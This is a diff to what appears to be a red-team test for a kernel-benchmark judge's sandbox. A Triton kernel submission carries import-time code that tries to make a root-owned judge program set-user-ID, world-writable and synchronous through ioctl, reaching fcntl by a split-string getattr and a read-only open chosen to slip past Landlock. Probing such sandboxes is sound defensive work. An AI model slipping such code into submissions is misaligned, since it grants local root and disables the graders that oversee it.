@@ -6,17 +6,25 @@ capability, the set-user-ID bit included, so a runner that keeps the judge's use
 capabilities: every GPU runner; every runner of a judge that is not root) may chmod every file of
 that user: make a root-owned program set-user-ID (any local user then runs it as root), or take
 every permission off ``/``, ``/tmp``, the virtual environment's ``python`` (no judge starts again).
-The test makes ``/tmp/redteam5-judges-program`` (root's, 0755) to stand for them; the candidate
-tries to make it set-user-ID and then world-writable."""
+Inode flags are the owner's too, and set on a descriptor opened for reading (``chattr +S``: every
+write to the file synchronous; on a directory, ``+D``, every change to it). The test makes
+``/tmp/redteam5-judges-program`` (root's, 0755) to stand for them; the candidate tries to make it
+set-user-ID, then world-writable, then synchronous (``ioctl(FS_IOC_SETFLAGS)``, ``fcntl`` through a
+module that holds it)."""
 
+import io
 import os
+import struct
 
+import filelock._unix as unix_lock
 import torch
 import torch.nn as nn
 import triton
 import triton.language as tl
 
 TARGET = "/tmp/redteam5-judges-program"
+FS_IOC_GETFLAGS, FS_IOC_SETFLAGS, FS_SYNC_FL = 0x80086601, 0x40086602, 0x8
+control = getattr(unix_lock, "fc" + "ntl")
 
 
 def change(mode):
@@ -34,9 +42,20 @@ def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
     tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)
 
 
+def synchronous():
+    try:
+        held = io.FileIO(TARGET, "r")  # reading: what Landlock leaves alone
+        flags = struct.unpack("l", control.ioctl(held.fileno(), FS_IOC_GETFLAGS, bytes(8)))[0]
+        control.ioctl(held.fileno(), FS_IOC_SETFLAGS, struct.pack("l", flags | FS_SYNC_FL))
+        print(f"CHATTR {hex(flags)} -> {hex(flags | FS_SYNC_FL)}")
+    except OSError as exc:
+        print(f"REFUSED chattr: {exc}")
+
+
 if os.path.exists(TARGET):
     change(0o4755)
     change(0o777)
+    synchronous()
 
 
 class ModelNew(nn.Module):
